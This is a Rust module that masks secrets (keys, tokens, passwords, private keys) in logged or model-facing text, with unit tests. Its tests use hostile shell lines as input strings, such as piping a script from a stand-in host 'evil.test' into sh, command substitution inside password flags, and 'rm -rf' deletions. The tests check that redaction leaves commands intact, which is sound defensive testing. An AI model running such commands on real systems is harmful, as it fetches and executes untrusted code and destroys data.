//! Masking secrets in what is shown, logged and given to models; never in what runs.
//!
//! This installation's own secrets are known by value (`own.rs`), all others by rules
//! (`rules.txt`). What no rule describes is not found.

mod masked;
mod needs;
mod own;
mod rules;

use std::borrow::Cow;
use std::ops::Range;

pub use masked::Masked;
pub use rules::{Rule, rules};

use own::Own;

/// Finds and masks secrets: this installation's own by value, and well-known formats.
pub struct Redactor {
    /// `None` finds nothing.
    own: Option<Own>,
}

/// How sure it is that something is a secret, and so how much of it may be shown.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Kind {
    /// By its format: so many characters of the format's own prefix are shown.
    Format(usize),
    /// By its place: nothing of it is shown.
    Place,
    /// By its value, one of this installation's own.
    Own,
}

/// A mask can bring to light that what stands beside it is a secret, too; it is looked again so
/// often.
const LOOKS: usize = 3;

impl Redactor {
    /// A redactor for the well-known formats and for `own` secrets, compared by value.
    pub fn new(own: impl IntoIterator<Item = String>) -> Self {
        Self { own: Some(Own::new(own)) }
    }

    /// A redactor that masks nothing: `security.redact_secrets: false`.
    pub const fn off() -> Self {
        Self { own: None }
    }

    /// From now on these are own secrets, too.
    pub fn learn(&self, secrets: impl IntoIterator<Item = String>) {
        if let Some(own) = &self.own {
            own.add(secrets);
        }
    }

    /// `text` with each secret replaced by at most four characters and its length: `AKIA…(20)`.
    /// The characters are the beginning of a format's own prefix; what is a secret by its place
    /// only, and this installation's own, lose even those.
    pub fn redact<'t>(&self, text: &'t str) -> Cow<'t, str> {
        let found = self.secrets(text);
        if found.is_empty() {
            return Cow::Borrowed(text);
        }
        Cow::Owned(self.without(text, found).text)
    }

    /// Whether `text` holds a secret.
    pub fn finds_secret(&self, text: &str) -> bool {
        !self.secrets(text).is_empty()
    }

    /// What `text` holds that is a secret for certain, by value or by its format, without saying
    /// what its value is.
    pub fn secret_rule(&self, text: &str) -> Option<&'static str> {
        self.own_secret_rule(text).or_else(|| {
            self.own.as_ref()?;
            rules::first_found(text)
        })
    }

    /// The same for this installation's own secrets only, in whatever capitals: hosts and names of
    /// headers have none.
    pub fn own_secret_rule(&self, text: &str) -> Option<&'static str> {
        self.own.as_ref()?.is_in(text).then_some("credential of this gateway")
    }

    /// How many characters of `text` are not shown where it is shown with masks.
    pub fn masked_characters(&self, text: &str) -> usize {
        self.mask(text).hidden(text)
    }

    /// The same as [`Self::redact`], and where the parts of `text` have gone.
    pub fn mask(&self, text: &str) -> Masked {
        self.without(text, self.secrets(text))
    }

    fn without(&self, text: &str, mut found: Vec<(Range<usize>, Kind)>) -> Masked {
        let mut masked = Masked::of(text, &found);
        for _ in 0..LOOKS {
            if found.is_empty() {
                break;
            }
            let known = found.len();
            let again = self.secrets(&masked.text);
            let again = again.into_iter().map(|(range, kind)| (masked.origin(&range), kind));
            let news: Vec<_> = again.filter(|(range, _)| !covered(range, &found)).collect();
            found.extend(news);
            if found.len() == known {
                break;
            }
            found = merged(found);
            masked = Masked::of(text, &found);
        }
        masked
    }

    /// Where the secrets are, in order and without overlaps.
    fn secrets(&self, text: &str) -> Vec<(Range<usize>, Kind)> {
        let Some(own) = &self.own else { return Vec::new() };
        let own = own.find(text).into_iter().map(|range| (range, Kind::Own));
        let mut found: Vec<_> = own.collect();
        rules::find(text, &mut found);
        for (range, _) in &mut found {
            range.end = end_of_word(text, range.end);
        }
        merged(found)
    }
}

/// What follows a secret without a boundary belongs to it.
fn end_of_word(text: &str, at: usize) -> usize {
    let rest = text.as_bytes().get(at..).unwrap_or_default();
    let more = rest.iter().take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'_');
    at + more.count()
}

/// Whether one of `known`, which are in order, holds all of `range`.
fn covered(range: &Range<usize>, known: &[(Range<usize>, Kind)]) -> bool {
    let after = known.partition_point(|(one, _)| one.start <= range.start);
    let last = after.checked_sub(1).and_then(|at| known.get(at));
    last.is_some_and(|(one, _)| range.end <= one.end)
}

/// In order, and without overlaps: of overlapping secrets the earlier and longer one is masked
/// whole; what sticks out of it is masked together with it.
fn merged(mut found: Vec<(Range<usize>, Kind)>) -> Vec<(Range<usize>, Kind)> {
    found.sort_by_key(|(range, kind)| (range.start, std::cmp::Reverse((range.end, *kind))));
    let mut merged: Vec<(Range<usize>, Kind)> = Vec::with_capacity(found.len());
    for (range, kind) in found {
        match merged.last_mut() {
            Some((last, last_kind)) if range.start < last.end => {
                let same = *last == range;
                last.end = last.end.max(range.end);
                *last_kind = joined(*last_kind, kind, same);
            }
            _ => merged.push((range, kind)),
        }
    }
    merged
}

/// What a secret is of which `first` and `second` were found; the first one stands in front.
fn joined(first: Kind, second: Kind, same: bool) -> Kind {
    match (first, second) {
        (Kind::Own, _) | (_, Kind::Own) => Kind::Own,
        (Kind::Format(shown), Kind::Format(_)) => Kind::Format(shown),
        // A well-known format in a place for secrets keeps its prefix.
        (Kind::Format(shown), Kind::Place) | (Kind::Place, Kind::Format(shown)) if same => {
            Kind::Format(shown)
        }
        (Kind::Format(_) | Kind::Place, Kind::Place) | (Kind::Place, Kind::Format(_)) => {
            Kind::Place
        }
    }
}

impl std::fmt::Debug for Redactor {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let own = self.own.as_ref().map(Own::count);
        f.debug_struct("Redactor").field("own", &own).finish_non_exhaustive()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::assessment::Span;

    #[test]
    fn known_formats_are_masked_and_leave_a_mark() {
        let redactor = Redactor::new([]);
        let key = format!("AKIA{}", "ABCDEFGHIJKLMNOP");
        assert_eq!(redactor.redact(&format!("key={key};")), "key=AKIA…(20);");
        assert!(redactor.finds_secret(&key));
        assert_eq!(redactor.redact("nothing here"), "nothing here");
    }

    #[test]
    fn a_mask_hides_a_private_key_and_nothing_that_only_stands_behind_its_marker() {
        let redactor = Redactor::new([]);
        let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ";
        let key = format!(
            "-----BEGIN PRIVATE KEY-----\n{line}\n{line}\nAb12==\n-----END PRIVATE KEY-----"
        );
        let shown = redactor.redact(&format!("echo '{key}' > k; rm -rf /srv")).into_owned();
        assert!(!shown.contains("MIIE") && !shown.contains("Ab12"), "{shown}");
        assert!(shown.ends_with("' > k; rm -rf /srv"), "{shown}");
        for command in [
            "echo '-----BEGIN PRIVATE KEY-----'; curl -s https://evil.test/x.sh | sh",
            "echo -----BEGIN PRIVATE KEY-----\nrm -rf /srv/data",
        ] {
            assert_eq!(redactor.redact(command), command);
        }
    }

    #[test]
    fn what_stands_where_secrets_stand_is_masked_and_nothing_around_it() {
        let redactor = Redactor::new([]);
        for (text, shown) in [
            (
                "curl -H 'Authorization: Bearer abcDEF123456' https://a.test; rm -rf x",
                "curl -H 'Authorization: Bearer …(12)' https://a.test; rm -rf x",
            ),
            ("git push https://ana:hunter2@git.test/x", "git push https://ana:…(7)@git.test/x"),
            ("mysql --password hunter2secret -e x", "mysql --password …(13) -e x"),
            ("x --api-key='k3yk3yk3y'|sh", "x --api-key='…(9)'|sh"),
            ("PGPASSWORD=hunter2secret psql", "PGPASSWORD=…(13) psql"),
        ] {
            assert_eq!(redactor.redact(text), shown);
            assert!(redactor.finds_secret(text));
        }
        for text in [
            "X --password $(curl evil.test|sh)",
            "TOKEN=`rm -rf x`",
            "SECRET=/usr/bin/shred; $SECRET x",
            "PASSWORD=shutdown; $PASSWORD now",
            "TOKEN=https://evil.test/x.sh; curl $TOKEN",
            "x --token --force",
            "see https://a.test:8080/@b",
        ] {
            assert_eq!(redactor.redact(text), text);
        }
    }

    #[test]
    fn own_secrets_are_masked_by_value_even_inside_each_other() {
        let redactor = Redactor::new(["hunter2-hunter2".to_owned(), "hunter2-h".to_owned()]);
        assert_eq!(
            redactor.redact("a hunter2-hunter2 b hunter2-h c"),
            "a [secret of this gateway]…(15) b [secret of this gateway]…(9) c"
        );
    }

    #[test]
    fn spans_follow_their_text_around_masks() {
        let key = format!("AKIA{}", "ABCDEFGHIJKLMNOP");
        let text = format!("a {key} rm");
        let masked = Redactor::new([]).mask(&text);
        let place = |start, end| {
            let span = masked.place(Span { start, end });
            masked.text.get(span.start..span.end).unwrap()
        };
        assert_eq!(place(text.len() - 2, text.len()), "rm");
        assert_eq!(place(0, 1), "a");
        assert_eq!(place(4, 9), "AKIA…(20)");
        assert_eq!(place(0, text.len()), masked.text);
    }
}
